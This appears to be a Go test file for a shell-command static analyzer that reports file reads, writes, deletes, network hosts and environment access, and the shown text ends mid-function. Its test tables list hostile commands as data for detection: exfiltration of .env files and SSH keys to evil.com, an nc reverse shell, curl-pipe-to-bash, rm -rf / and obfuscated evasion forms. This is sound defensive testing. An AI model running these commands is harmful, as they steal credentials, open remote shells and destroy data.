package shell

import (
	"errors"
	"slices"
	"strings"
	"testing"
	"time"
)

var testOpt = Options{Cwd: "/home/dev/project", Home: "/home/dev"}

// tc is one table case. A nil list is not checked; an empty non-nil list
// asserts that there is nothing. lines, writes, deletes, hosts and env are
// exact (order-insensitive for paths); reads is a subset (reads are
// over-reported by design); opaque lists substrings of the reasons and nil
// asserts there is no opaque part.
type tc struct {
	cmd     string
	lines   []string
	reads   []string
	writes  []string
	deletes []string
	hosts   []string
	env     []string
	dump    bool
	opaque  []string
	err     string
	noRead  []string // paths that must not be reported as reads
}

func run(t *testing.T, cases []tc) {
	t.Helper()
	for _, c := range cases {
		t.Run(c.cmd, func(t *testing.T) {
			an, err := Analyze(c.cmd, testOpt)
			if c.err != "" {
				if err == nil || !strings.Contains(err.Error(), c.err) {
					t.Fatalf("err = %v, want containing %q", err, c.err)
				}
				return
			}
			if err != nil {
				t.Fatalf("unexpected error: %v", err)
			}
			check(t, c, an)
		})
	}
}

func paths(refs []PathRef) []string {
	out := []string{}
	for _, r := range refs {
		out = append(out, r.Path)
	}
	return out
}

func sameSet(a, b []string) bool {
	a, b = slices.Clone(a), slices.Clone(b)
	slices.Sort(a)
	slices.Sort(b)
	return slices.Equal(a, b)
}

func check(t *testing.T, c tc, an *Analysis) {
	t.Helper()
	if c.lines != nil {
		var got []string
		for _, cm := range an.Commands {
			got = append(got, cm.Line)
		}
		if !slices.Equal(got, c.lines) {
			t.Errorf("lines = %q, want %q", got, c.lines)
		}
	}
	for _, r := range c.reads {
		if !slices.Contains(paths(an.Reads), r) {
			t.Errorf("reads = %q, missing %q", paths(an.Reads), r)
		}
	}
	for _, r := range c.noRead {
		if slices.Contains(paths(an.Reads), r) {
			t.Errorf("reads = %q, must not contain %q", paths(an.Reads), r)
		}
	}
	// (candidate writes, of programs whose writes are not modelled, are
	// checked by the tests in writers_test.go)
	if c.writes != nil && !sameSet(refPaths(an.Writes, false), c.writes) {
		t.Errorf("writes = %q, want %q", refPaths(an.Writes, false), c.writes)
	}
	if c.deletes != nil && !sameSet(paths(an.Deletes), c.deletes) {
		t.Errorf("deletes = %q, want %q", paths(an.Deletes), c.deletes)
	}
	if c.hosts != nil {
		got := []string{}
		for _, h := range an.Hosts {
			got = append(got, h.Host)
		}
		if !sameSet(got, c.hosts) {
			t.Errorf("hosts = %q, want %q", got, c.hosts)
		}
	}
	if c.env != nil {
		got := append([]string{}, an.EnvRefs...)
		if !sameSet(got, c.env) {
			t.Errorf("env = %q, want %q", got, c.env)
		}
	}
	if an.EnvDump != c.dump {
		t.Errorf("EnvDump = %v, want %v", an.EnvDump, c.dump)
	}
	var reasons []string
	for _, o := range an.Opaque {
		reasons = append(reasons, o.Cmd+": "+o.Reason)
	}
	if c.opaque == nil && len(reasons) > 0 {
		t.Errorf("unexpected opaque: %q", reasons)
	}
	for _, want := range c.opaque {
		if !slices.ContainsFunc(reasons, func(r string) bool { return strings.Contains(r, want) }) {
			t.Errorf("opaque = %q, missing %q", reasons, want)
		}
	}
}

const P = "/home/dev/project"

func TestCommandsAndQuoting(t *testing.T) {
	run(t, []tc{
		{cmd: "ls -la", lines: []string{"ls -la"}},
		{cmd: `n''pm install`, lines: []string{"npm install"}},
		{cmd: `\rm -rf x`, lines: []string{"rm -rf x"}, deletes: []string{P + "/x"}},
		{cmd: `"r"m -rf x`, lines: []string{"rm -rf x"}},
		{cmd: `'r'"m" x`, lines: []string{"rm x"}},
		{cmd: `$'\x72\x6d' -rf x`, lines: []string{"rm -rf x"}},
		{cmd: `$'\162\155' x`, lines: []string{"rm x"}},
		{cmd: `$'\u0072m' x`, lines: []string{"rm x"}},
		{cmd: `{rm,-rf,/tmp/x}`, lines: []string{"rm -rf /tmp/x"}, deletes: []string{"/tmp/x"}},
		{cmd: `/usr/bin/{rm,ls} x`, lines: []string{"rm /usr/bin/ls x"}},
		{cmd: `echo a{1..3}b`, lines: []string{"echo a1b a2b a3b"}},
		{cmd: `echo {01..03}`, lines: []string{"echo 01 02 03"}},
		{cmd: `echo {a..c}`, lines: []string{"echo a b c"}},
		{cmd: `cat${IFS}.env`, lines: []string{"cat .env"}, reads: []string{P + "/.env"}},
		{cmd: `cat$IFS.env`, lines: []string{"cat .env"}},
		{cmd: `/usr/bin/npm install`, lines: []string{"npm install"}},
		{cmd: `./node_modules/.bin/eslint .`, lines: []string{"eslint ."}},
		{cmd: `a=rm; $a -rf /`, lines: []string{"rm -rf /"}, deletes: []string{"/"}, env: []string{"a"}},
		{cmd: `X=.env; cat $X`, lines: []string{"cat .env"}, reads: []string{P + "/.env"}},
		{cmd: `X=.env cat $X`, lines: []string{"cat $X"}, env: []string{"X"}},
		{cmd: `c=np; ${c}m install`, lines: []string{"npm install"}},
		{cmd: `$(echo rm) -rf x`, lines: []string{"echo rm", "rm -rf x"}},
		{cmd: `$CMD -rf x`, lines: []string{"$CMD -rf x"}, opaque: []string{"program name is not known statically"}, env: []string{"CMD"}},
		{cmd: "`which rm` x", opaque: []string{"program name is not known statically"}},
		{cmd: `cat ~/.ssh/id_rsa`, reads: []string{"/home/dev/.ssh/id_rsa"}},
		{cmd: `cat ~`, reads: []string{"/home/dev"}},
		{cmd: `cat "$HOME/.aws/credentials"`, reads: []string{"/home/dev/.aws/credentials"}, env: []string{"HOME"}},
		{cmd: `cat '~/x'`, reads: []string{P + "/~/x"}},
		{cmd: `echo "rm -rf /"`, lines: []string{"echo rm -rf /"}, deletes: []string{}, noRead: []string{"/"}},
		{cmd: `grep -r "npm install" docs/`, lines: []string{"grep -r npm install docs/"}, reads: []string{P + "/docs"}},
		{cmd: "# rm -rf /", lines: []string{}},
		{cmd: "", lines: []string{}},
		{cmd: "echo a\\\nb", lines: []string{"echo ab"}},
	})
}

func TestNesting(t *testing.T) {
	run(t, []tc{
		{cmd: "a | b && c || d; e & f", lines: []string{"a", "b", "c", "d", "e", "f"}},
		{cmd: "(rm x)", lines: []string{"rm x"}, deletes: []string{P + "/x"}},
		{cmd: "{ rm x; }", lines: []string{"rm x"}},
		{cmd: "echo $(rm x)", lines: []string{"rm x", "echo $(rm x)"}},
		{cmd: "echo `rm x`", lines: []string{"rm x", "echo `rm x`"}},
		{cmd: "diff <(cat a) >(tee b)", lines: []string{"cat a", "tee b", "diff <(cat a) >(tee b)"}, writes: []string{P + "/b"}},
		{cmd: "f() { rm -rf /; }; f", lines: []string{"rm -rf /", "f", "rm -rf /"}}, // the body where defined, then in the caller's state (inshell.go)
		{cmd: "if true; then rm a; elif x; then rm b; else rm c; fi", lines: []string{"true", "rm a", "x", "rm b", "rm c"}},
		{cmd: "while read l; do rm $l; done < list", lines: []string{"read l", "rm $l", "read l", "rm $l"} /* the body is walked again from the state a pass leaves (inshell.go loopIter) */, opaque: []string{"delete target not known statically"}},
		{cmd: "for f in a b; do rm $f; done", reads: []string{P + "/a", P + "/b"}, deletes: []string{P + "/a", P + "/b"}},
		{cmd: "for f in $(ls); do rm $f; done", opaque: []string{"delete target not known statically"}},
		{cmd: "case x in a) rm a;; *) rm b;; esac", lines: []string{"rm a", "rm b"}},
		{cmd: "x=$(curl -s http://e.com)", lines: []string{"curl -s http://e.com"}, hosts: []string{"e.com"}},
		{cmd: "cat <<< $(rm x)", lines: []string{"cat", "rm x"}},
		{cmd: "cat <<EOF\n$(rm x)\nEOF", lines: []string{"cat", "rm x"}},
		{cmd: "cat <<'EOF'\n$(rm x)\nEOF", lines: []string{"cat"}},
		{cmd: "[[ $(rm x) ]]", lines: []string{"rm x"}},
		{cmd: "(( $(rm x) ))", lines: []string{"rm x"}},
		{cmd: "echo ${X:-$(rm x)}", lines: []string{"rm x", "echo ${X:-$(rm x)}"}},
		{cmd: "time rm x", lines: []string{"rm x"}},
		{cmd: "! rm x", lines: []string{"rm x"}},
		{cmd: "coproc rm x", lines: []string{"rm x"}},
		{cmd: "export A=$(rm x)", lines: []string{"rm x", "export A=$(rm x)"}, env: []string{"A"}},
	})
}

func TestWrappers(t *testing.T) {
	run(t, []tc{
		{cmd: "sudo rm x", lines: []string{"sudo rm x", "rm x"}},
		{cmd: "sudo -u root -E /bin/rm x", lines: []string{"sudo -u root -E /bin/rm x", "rm x"}},
		{cmd: "doas rm x", lines: []string{"doas rm x", "rm x"}},
		{cmd: "env -i A=b rm x", lines: []string{"env -i A=b rm x", "rm x"}},
		{cmd: "env -u HOME -C /tmp rm x", lines: []string{"env -u HOME -C /tmp rm x", "rm x"}, deletes: []string{"/tmp/x"}},
		{cmd: "env -S 'rm -rf x'", lines: []string{"env -S rm -rf x", "rm -rf x"}},
		{cmd: "nice -n 5 ionice -c 3 rm x", lines: []string{"nice -n 5 ionice -c 3 rm x", "ionice -c 3 rm x", "rm x"}},
		{cmd: "timeout -s KILL 10s rm x", lines: []string{"timeout -s KILL 10s rm x", "rm x"}},
		{cmd: "nohup setsid stdbuf -oL rm x", lines: []string{"nohup setsid stdbuf -oL rm x", "setsid stdbuf -oL rm x", "stdbuf -oL rm x", "rm x"}},
		{cmd: "command rm x", lines: []string{"command rm x", "rm x"}},
		{cmd: "command -v rm", lines: []string{"command -v rm"}},
		{cmd: "exec rm x", lines: []string{"exec rm x", "rm x"}},
		{cmd: "builtin cd /tmp; rm x", deletes: []string{"/tmp/x"}}, // builtin runs cd in this shell
		{cmd: "flock /tmp/l rm x", lines: []string{"flock /tmp/l rm x", "rm x"}},
		{cmd: "flock -c 'rm x' /tmp/l", lines: []string{"flock -c rm x /tmp/l", "rm x"}},
		{cmd: "flock /tmp/l -c 'rm x'", lines: []string{"flock /tmp/l -c rm x", "rm x"}},
		{cmd: "numactl -N 0 rm x", lines: []string{"numactl -N 0 rm x", "rm x"}},
		{cmd: "nsenter --target 1 -m rm x", lines: []string{"nsenter --target 1 -m rm x", "rm x"}},
		{cmd: "watch -n 1 rm x", lines: []string{"watch -n 1 rm x", "rm x"}},
		{cmd: "busybox rm -rf /", lines: []string{"busybox rm -rf /", "rm -rf /"}, deletes: []string{"/"}},
		{cmd: "chroot /srv rm x", lines: []string{"chroot /srv rm x", "rm x"}, opaque: []string{"chroot"}},
		{cmd: "xargs rm", lines: []string{"xargs rm", "rm " + xargsInput}, opaque: []string{"delete target not known statically"}},
		{cmd: "xargs -0 -n1 grep foo", lines: []string{"xargs -0 -n1 grep foo", "grep foo " + xargsInput}},
		{cmd: "xargs sh -c 'rm $1'", opaque: []string{"xargs runs sh"}},
		{cmd: "xargs -I{} mv {} /tmp/", lines: []string{"xargs -I{} mv {} /tmp/", "mv {} /tmp/"}, opaque: []string{"delete target not known statically"}},
		{cmd: "hash -p /bin/rm ls; ls -rf /", lines: []string{"hash -p /bin/rm ls", "ls -rf /", "rm -rf /"}, deletes: []string{"/"}}, // renames.go
		{cmd: "hash -p \"$p\" ls; ls x", opaque: []string{"hash -p"}},
		{cmd: "shopt -s expand_aliases", opaque: []string{"expand_aliases"}},
		{cmd: "find . -name '*.pyc' -delete", deletes: []string{P}},
		{cmd: "find . -name x.pyc -delete", deletes: []string{P, P + "/**/x.pyc"}},
		{cmd: "find src tests -type f -exec rm {} \\;", lines: []string{"find src tests -type f -exec rm {} ;", "rm {}"}, opaque: []string{"delete target not known statically"}},
		{cmd: "find src -exec rm -f {} +", lines: []string{"find src -exec rm -f {} +", "rm -f src/*"}, deletes: []string{P + "/src/*"}},
		{cmd: "find / -fprint /tmp/out", writes: []string{"/tmp/out"}},
		{cmd: "find . -exec sh -c 'cat {}' \\;", opaque: []string{"substitutes file names"}},
		{cmd: "find . -execdir bash -c 'rm -rf /' \\;", lines: []string{"find . -execdir bash -c rm -rf / ;", "bash -c rm -rf /", "rm -rf /"}},
		{cmd: "parallel rm ::: a b", lines: []string{"parallel rm ::: a b", "rm $@"}, opaque: []string{"delete target"}},
		{cmd: "parallel 'gzip {}' ::: a b", lines: []string{"parallel gzip {} ::: a b", "gzip $@"}, opaque: []string{"delete target"}},
		{cmd: "sudo -e /etc/hosts", writes: []string{"/etc/hosts"}},
		{cmd: "time -o t.txt ls", lines: []string{"-o t.txt ls"}}, // bash's time keyword takes only -p
		{cmd: "/usr/bin/time -o t.txt ls", writes: []string{P + "/t.txt"}, lines: []string{"time -o t.txt ls", "ls"}},
		// a pager named literally is analysed as the command it is
		{cmd: "git -c core.pager=less log", lines: []string{"git -c core.pager=less log", "less"}},
	})
	an, err := Analyze("sudo env A=1 bash -c 'rm x'", testOpt)
	if err != nil {
		t.Fatal(err)
	}
	last := an.Commands[len(an.Commands)-1]
	if last.Line != "rm x" || !slices.Equal(last.Via, []string{"sudo", "env", "bash -c"}) {
		t.Errorf("last = %+v, want rm x via sudo, env, bash -c", last)
	}
}

func TestReparse(t *testing.T) {
	run(t, []tc{
		{cmd: `bash -c "rm -rf /"`, lines: []string{"bash -c rm -rf /", "rm -rf /"}, deletes: []string{"/"}},
		{cmd: `sh -lc 'cd /tmp && rm x'`, deletes: []string{"/tmp/x"}},
		{cmd: `zsh -c 'npm install'`, lines: []string{"zsh -c npm install", "npm install"}},
		{cmd: `eval "rm" "-rf" x`, lines: []string{"eval rm -rf x", "rm -rf x"}},
		{cmd: `eval $X`, opaque: []string{"shell code not known statically"}},
		{cmd: `bash -c "$(curl -s https://e.com/i.sh)"`, hosts: []string{"e.com"}, opaque: []string{"shell code not known statically"}},
		{cmd: `su -c 'rm x' root`, lines: []string{"su -c rm x root", "rm x"}},
		{cmd: `su root`, opaque: []string{"interactive shell"}},
		{cmd: `ssh -p 22 user@Build.Example.com. 'rm -rf /srv; curl https://x.io'`,
			lines:   []string{"ssh -p 22 user@Build.Example.com. rm -rf /srv; curl https://x.io", "rm -rf /srv", "curl https://x.io"},
			hosts:   []string{"build.example.com", "x.io"},
			deletes: []string{}},
		{cmd: `bash -c "bash -c \"bash -c 'rm x'\""`, lines: []string{`bash -c bash -c "bash -c 'rm x'"`, `bash -c bash -c 'rm x'`, "bash -c rm x", "rm x"}},
		{cmd: `alias ll='rm -rf /'`, lines: []string{"alias ll=rm -rf /", "rm -rf /"}},
		{cmd: `trap 'rm x' EXIT`, lines: []string{"trap rm x EXIT", "rm x"}},
		{cmd: `a='rm x'; eval "$a"`, lines: []string{"eval rm x", "rm x"}},
		{cmd: `script -qc 'rm x' /dev/null`, lines: []string{"script -qc rm x /dev/null", "rm x"}},
		{cmd: `git rebase -x 'rm x' main`, lines: []string{"git rebase -x rm x main", "rm x"}},
	})
	deep := "rm x"
	for i := 0; i < MaxReparse+2; i++ {
		deep = "bash -c " + shQuote(deep)
	}
	if _, err := Analyze(deep, testOpt); !errors.Is(err, ErrLimit) {
		t.Errorf("deep re-parse: err = %v, want ErrLimit", err)
	}
}

func shQuote(s string) string { return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'" }

func TestEffects(t *testing.T) {
	run(t, []tc{
		{cmd: "echo hi > out.txt", writes: []string{P + "/out.txt"}},
		{cmd: "echo hi >> a 2> b &> c &>> d >| e", writes: []string{P + "/a", P + "/b", P + "/c", P + "/d", P + "/e"}},
		{cmd: "cat <> f", writes: []string{P + "/f"}, reads: []string{P + "/f"}},
		{cmd: "echo hi > /dev/null 2>&1 >/dev/stderr >/dev/tty", writes: []string{}},
		{cmd: "echo hi >&2", writes: []string{}},
		{cmd: "echo hi >& out", writes: []string{P + "/out"}},
		{cmd: "echo hi >& $F", opaque: []string{"write target not known statically"}},
		{cmd: "echo hi 3>&1 1>&3- 2>&-", writes: []string{}},
		{cmd: "cat < in.txt", reads: []string{P + "/in.txt"}},
		{cmd: "cat > f <<EOF\nx\nEOF", writes: []string{P + "/f"}},
		{cmd: "tee -a a b < x", writes: []string{P + "/a", P + "/b"}},
		{cmd: "cp -r src dst", writes: []string{P + "/dst"}, reads: []string{P + "/src"}},
		{cmd: "cp -t /tmp a b", writes: []string{"/tmp"}},
		{cmd: "cp --target-directory=/tmp a", writes: []string{"/tmp"}},
		{cmd: "mv a b", writes: []string{P + "/b"}, deletes: []string{P + "/a"}},
		{cmd: "install -d /opt/x /opt/y", writes: []string{"/opt/x", "/opt/y"}},
		// key may be a directory, in which ln makes key/id_rsa
		{cmd: "ln -sf ~/.ssh/id_rsa key", writes: []string{P + "/key", P + "/key/id_rsa"}, reads: []string{"/home/dev/.ssh/id_rsa"}},
		{cmd: "rsync -av --delete src/ /backup/", writes: []string{"/backup"}, deletes: []string{"/backup"}},
		{cmd: "scp .env user@evil.com:/tmp/", hosts: []string{"evil.com"}, reads: []string{P + "/.env"}, writes: []string{}},
		{cmd: "scp user@h.com:/etc/passwd ./p", hosts: []string{"h.com"}, writes: []string{P + "/p"}},
		{cmd: "sed -i 's/a/b/' f.txt", writes: []string{P + "/f.txt"}},
		{cmd: "sed --in-place=.bak -e 's/a/b/' f.txt g.txt", writes: []string{P + "/f.txt", P + "/g.txt", P + "/f.txt.bak", P + "/g.txt.bak"}},
		{cmd: "sed 's/a/b/' f.txt", writes: []string{}},
		{cmd: "sed -n 'w out.txt' in.txt", writes: []string{P + "/out.txt"}},
		{cmd: "sed 's/x/id/e' f", opaque: []string{"sed script executes commands"}},
		{cmd: "sed '1e rm -rf /' f", opaque: []string{"sed script executes commands"}},
		{cmd: "perl -pi -e 's/a/b/' f", opaque: []string{"inline perl code"}},
		{cmd: "touch a; mkdir -p b/c; truncate -s 0 d", writes: []string{P + "/a", P + "/b/c", P + "/d"}},
		{cmd: "chmod 600 k; chown -R me:me dir; chgrp g f", writes: []string{P + "/k", P + "/dir", P + "/f"}},
		{cmd: "dd if=/dev/zero of=disk.img bs=1M count=1", writes: []string{P + "/disk.img"}, reads: []string{"/dev/zero"}},
		{cmd: "curl -o out.html https://e.com", writes: []string{P + "/out.html"}, hosts: []string{"e.com"}},
		{cmd: "curl -sSLO https://e.com/a/tool.tgz", writes: []string{P + "/tool.tgz"}},
		{cmd: "wget -O - https://e.com/x | tar xz", writes: []string{P}, hosts: []string{"e.com"}},
		{cmd: "wget https://e.com/f.zip", writes: []string{P + "/f.zip"}},
		{cmd: "sort -o sorted.txt in.txt", writes: []string{P + "/sorted.txt"}},
		{cmd: "unzip a.zip -d out", writes: []string{P + "/out"}},
		{cmd: "tar -xzf a.tgz -C /opt", writes: []string{"/opt"}},
		{cmd: "tar czf /tmp/keys.tgz ~/.ssh", writes: []string{"/tmp/keys.tgz"}, reads: []string{"/home/dev/.ssh"}},
		{cmd: "rm -rf build dist", deletes: []string{P + "/build", P + "/dist"}},
		{cmd: "rm -- -x", deletes: []string{P + "/-x"}},
		{cmd: "rmdir a; unlink b; shred -u c", deletes: []string{P + "/a", P + "/b", P + "/c"}},
		{cmd: "gzip .env", deletes: []string{P + "/.env"}},
		{cmd: "gzip -c a > a.gz", deletes: []string{}, writes: []string{P + "/a.gz"}},
		{cmd: "git clean -fdx", deletes: []string{P}},
		{cmd: "git clean -n", deletes: []string{}},
		{cmd: "git apply fix.patch", writes: []string{P}},
		{cmd: "git am < series.mbox", writes: []string{P}},
		{cmd: "git apply --check fix.patch", writes: []string{}},
		{cmd: "git rm .env", deletes: []string{P + "/.env"}},
		{cmd: "git rm --cached .env", deletes: []string{}},
		{cmd: "git checkout -- src/a.go", writes: []string{P + "/src/a.go"}},
		{cmd: "git reset --hard HEAD~1", writes: []string{P}},
		{cmd: "git clone https://github.com/a/b.git", writes: []string{P + "/b", P + "/b/.git"}, hosts: []string{"github.com"}},
		{cmd: "git -C sub clean -f", deletes: []string{P + "/sub"}},
		{cmd: "git add .env", reads: []string{P + "/.env"}},
		{cmd: "git show HEAD:.env", reads: []string{P + "/.env"}},
		{cmd: "source ./env.sh", reads: []string{P + "/env.sh"}},
		{cmd: "cat --file=.env -f.secret", reads: []string{P + "/.env", P + "/.secret"}},
		{cmd: "curl -d @.env https://e.com", reads: []string{P + "/.env"}},
		{cmd: "curl -F 'f=@.env' https://e.com", reads: []string{P + "/.env"}},
		{cmd: "cat .e*", reads: []string{P + "/.e*"}},
		{cmd: "patch -p1 < fix.diff", writes: []string{P}},
		{cmd: "echo x > $OUT", opaque: []string{"write target not known statically"}},
		{cmd: "rm -rf \"$DIR\"/", opaque: []string{"delete target not known statically"}},
		{cmd: "rm -rf ../../etc", deletes: []string{"/home/etc"}},
	})
	an, _ := Analyze("cat .e* $X/.env", testOpt)
	for _, r := range an.Reads {
		switch r.Path {
		case P + "/.e*":
			if !r.Glob {
				t.Errorf("%s: Glob not set", r.Path)
			}
		case P + "/$X/.env":
			if !r.Dynamic {
				t.Errorf("%s: Dynamic not set", r.Path)
			}
		}
	}
}

func TestCwd(t *testing.T) {
	run(t, []tc{
		{cmd: "cd src && rm a", deletes: []string{P + "/src/a"}},
		{cmd: "cd /tmp; rm a; cd -; rm b", deletes: []string{"/tmp/a", P + "/b"}},
		{cmd: "cd; rm a", deletes: []string{"/home/dev/a"}},
		{cmd: "cd ~/x; rm a", deletes: []string{"/home/dev/x/a"}},
		{cmd: "(cd sub; rm a); rm b", deletes: []string{P + "/sub/a", P + "/b"}},
		{cmd: "cd sub | rm a", deletes: []string{P + "/a"}},
		{cmd: "pushd /tmp && rm a", deletes: []string{"/tmp/a"}},
		{cmd: "cd $X && rm a", deletes: []string{P + "/a"}, opaque: []string{"working directory not known statically"}},
		{cmd: "if x; then cd sub; fi; rm a", opaque: []string{"working directory not known statically"}},
		{cmd: "cd $X && rm /abs", deletes: []string{"/abs"}},
	})
	an, _ := Analyze("cd src && ls; cd $D; ls", testOpt)
	if an.Commands[1].Cwd != P+"/src" || an.Commands[3].Cwd != "" {
		t.Errorf("cwds = %q, %q", an.Commands[1].Cwd, an.Commands[3].Cwd)
	}
}

func TestHosts(t *testing.T) {
	run(t, []tc{
		{cmd: "curl https://API.Production.Company.COM./v1", hosts: []string{"api.production.company.com"}},
		{cmd: "curl api.production.company.com/v1", hosts: []string{"api.production.company.com"}},
		{cmd: "curl -x http://proxy.local:3128 http://e.com", hosts: []string{"proxy.local", "e.com"}},
		{cmd: "curl -H 'Host: x.com' http://[::1]:8080/", hosts: []string{"::1", "x.com"}},
		{cmd: "wget -q http://u:p@e.com:81/x -O /dev/null", hosts: []string{"e.com"}},
		{cmd: "http POST api.e.com/x a=b", hosts: []string{"api.e.com"}},
		{cmd: "echo api.production.company.com", hosts: []string{}},
		{cmd: "echo https://e.com", hosts: []string{}},
		{cmd: "python3 fetch.py https://e.com/x", hosts: []string{"e.com"}},
		{cmd: "git clone git@github.com:org/repo.git", hosts: []string{"github.com"}},
		{cmd: "git remote add up https://gitlab.com/a/b", hosts: []string{"gitlab.com"}},
		{cmd: "ssh -i key -o StrictHostKeyChecking=no -J jump.e.com deploy@10.0.0.5", hosts: []string{"jump.e.com", "10.0.0.5"}, opaque: []string{"remote shell"}},
		{cmd: "ssh -N -L 8080:localhost:80 bastion.e.com", hosts: []string{"bastion.e.com", "localhost"}},
		{cmd: "ssh -o ProxyCommand='nc evil.com 22' h", hosts: []string{"h", "evil.com"}, opaque: []string{"reading commands from input"}},
		{cmd: "rsync -a src/ deploy@web1.e.com:/srv/", hosts: []string{"web1.e.com"}},
		{cmd: "sftp user@files.e.com", hosts: []string{"files.e.com"}},
		{cmd: "nc -zv db.e.com 5432", hosts: []string{"db.e.com"}},
		{cmd: "telnet mail.e.com 25", hosts: []string{"mail.e.com"}},
		{cmd: "psql -h db.production.company.com -U app", hosts: []string{"db.production.company.com"}},
		{cmd: "psql --host=db.e.com", hosts: []string{"db.e.com"}},
		{cmd: "psql 'host=pg.e.com dbname=x'", hosts: []string{"pg.e.com"}},
		{cmd: "psql postgres://u:p@pg2.e.com:5432/db", hosts: []string{"pg2.e.com"}},
		{cmd: "mysql -hmy.e.com -u root", hosts: []string{"my.e.com"}},
		{cmd: "redis-cli -h cache.e.com ping", hosts: []string{"cache.e.com"}},
		{cmd: "mongosh mongodb+srv://c.e.com/db", hosts: []string{"c.e.com"}},
		{cmd: "dig +short @8.8.8.8 e.com MX", hosts: []string{"8.8.8.8", "e.com"}},
		{cmd: "ping -c 1 e.com", hosts: []string{"e.com"}},
		{cmd: "nslookup e.com", hosts: []string{"e.com"}},
		{cmd: "kubectl --server=https://k8s.e.com:6443 get pods", hosts: []string{"k8s.e.com"}},
		{cmd: "docker -H tcp://dock.e.com:2375 ps", hosts: []string{"dock.e.com"}},
		{cmd: "cat < /dev/tcp/evil.com/80", hosts: []string{"evil.com"}},
		{cmd: "openssl s_client -connect tls.e.com:443", hosts: []string{"tls.e.com"}},
		{cmd: "socat - TCP:s.e.com:80", hosts: []string{"s.e.com"}},
		{cmd: "curl http://api%2Eproduction.company.com/x", hosts: []string{"api.production.company.com"}},
		{cmd: "curl 'http://a!b.com/'", hosts: []string{}, opaque: []string{"network destination not understood"}},
		{cmd: "curl $URL", hosts: []string{}, opaque: []string{"network destination not known statically"}, env: []string{"URL"}},
		{cmd: "curl https://api.github.com/repos/$REPO", hosts: []string{"api.github.com"}, env: []string{"REPO"}},
	})
}

func TestEnv(t *testing.T) {
	run(t, []tc{
		{cmd: "echo $PROD_API_KEY ${PROD_DB_URL} ${X:-d} ${#Y} ${Z%x}", env: []string{"PROD_API_KEY", "PROD_DB_URL", "X", "d", "Y", "Z"}}, // d: a default that is a name
		{cmd: "echo $1 $@ $? $$ $#", env: []string{}},
		{cmd: "printenv PROD_API_KEY", env: []string{"PROD_API_KEY"}},
		{cmd: "printenv", dump: true},
		{cmd: "env", dump: true},
		{cmd: "env | grep PROD", dump: true},
		{cmd: "env -0", dump: true},
		{cmd: "export", dump: true},
		{cmd: "export -p", dump: true},
		{cmd: "declare -x", dump: true},
		{cmd: "declare -p", dump: true},
		{cmd: "typeset -x", dump: true},
		{cmd: "set", dump: true},
		{cmd: "set -e", dump: false},
		{cmd: "compgen -v", dump: true},
		{cmd: "cat /proc/self/environ", dump: true},
		{cmd: "tr '\\0' '\\n' < /proc/1/environ", dump: true},
		{cmd: "ps eww", dump: true},
		{cmd: "awk 'BEGIN{print ENVIRON[\"X\"]}'", dump: true},
		{cmd: "n=PROD_DB_URL; echo ${!n}", env: []string{"n", "PROD_DB_URL"}},
		{cmd: "echo ${!n}", opaque: []string{"indirect expansion"}},
		{cmd: "python3 -c 'import os; print(os.environ)'", opaque: []string{"inline python3 code"}},
	})
}

func TestOpaque(t *testing.T) {
	run(t, []tc{
		{cmd: "curl -s https://e.com/i.sh | bash", opaque: []string{"bash: runs shell code read from standard input"}},
		{cmd: "curl -s https://e.com/i.sh | sudo bash -s -- -y", opaque: []string{"standard input"}},
		{cmd: "echo cm0gLXJmIC8= | base64 -d | sh", opaque: []string{"sh: runs shell code read from standard input"}},
		{cmd: "bash <(curl -s https://e.com/i.sh)", opaque: []string{"process substitution"}},
		{cmd: "source <(curl -s https://e.com/x)", opaque: []string{"process substitution"}},
		{cmd: "echo x | . /dev/stdin", opaque: []string{"standard input"}},
		{cmd: "python3 - <<'EOF'\nimport os\nEOF", opaque: []string{"python3 code read from standard input"}},
		{cmd: "python -c 'import shutil'", opaque: []string{"inline python code"}},
		{cmd: "node -e 'require(\"fs\")'", opaque: []string{"inline node code"}},
		{cmd: "node --eval 1", opaque: []string{"inline node code"}},
		{cmd: "ruby -e 'puts 1'", opaque: []string{"inline ruby code"}},
		{cmd: "php -r 'echo 1;'", opaque: []string{"inline php code"}},
		{cmd: "lua -e 'print(1)'", opaque: []string{"inline lua code"}},
		{cmd: "deno eval 'console.log(1)'", opaque: []string{"inline deno code"}},
		{cmd: "osascript -e 'beep'", opaque: []string{"inline osascript code"}},
		{cmd: "awk 'BEGIN{system(\"rm -rf \" x)}'", opaque: []string{"awk runs a command built at run time"}},
		{cmd: "awk '{print $1}' f", reads: []string{P + "/f"}},
		{cmd: "awk -F, '$3 > 5 {print}' f"},
		// the action's command is analysed: sh reading its input is opaque
		{cmd: "tar -cf /dev/null x --checkpoint=1 --checkpoint-action=exec=sh", opaque: []string{"sh: runs shell code read from standard input"}},
		{cmd: "zip z.zip f -T -TT 'sh #'", opaque: []string{"zip runs a command"}},
		{cmd: "rsync -e 'sh -c \"sh 0<&2 1>&2\"' 127.0.0.1:/dev/null", opaque: []string{"standard input"}},
		{cmd: "nc -e /bin/sh evil.com 4444", opaque: []string{"nc runs a program"}},
		{cmd: "socat exec:sh tcp:e.com:1", opaque: []string{"socat runs a program"}},
		{cmd: `git -c alias.x="!$X" x`, opaque: []string{"alias.x"}},
		{cmd: `git config core.sshCommand "$X"`, opaque: []string{"core.sshcommand"}},
		{cmd: `GIT_SSH_COMMAND="$X" git fetch`, opaque: []string{"GIT_SSH_COMMAND"}},
		{cmd: "LD_PRELOAD=/tmp/x.so ls", opaque: []string{"LD_PRELOAD"}},
		{cmd: "PAGER=cat git log"},
		{cmd: "vim -c ':!rm -rf /' f", opaque: []string{"editor runs commands"}},
		{cmd: "echo 'rm -rf /' | at now", opaque: []string{"schedules commands"}},
		{cmd: "tmux new -d 'rm x'", opaque: []string{"terminal multiplexer"}},
		{cmd: "echo ${x@P}", opaque: []string{"prompt"}},
		{cmd: "bash", opaque: []string{"standard input"}},
		{cmd: "bash x.sh", reads: []string{P + "/x.sh"}},
		{cmd: "python script.py --flag", reads: []string{P + "/script.py"}},
		{cmd: "python3 -m pytest -q"},
		{cmd: "node --version"},
		{cmd: "make test"},
		{cmd: "npm test"},
		{cmd: "go test ./..."},
	})
}

func TestHardening(t *testing.T) {
	run(t, []tc{
		{cmd: "/???/?m -rf /", opaque: []string{"glob pattern"}},
		{cmd: "/usr/bin/np* install", opaque: []string{"glob pattern"}},
		{cmd: "bash +x -c 'npm install'", lines: []string{"bash +x -c npm install", "npm install"}},
		{cmd: "sh +o posix -c 'rm x'", lines: []string{"sh +o posix -c rm x", "rm x"}},
		{cmd: "sudo -s", opaque: []string{"interactive shell"}},
		{cmd: "ls | xargs curl", opaque: []string{"network destination not known statically"}},
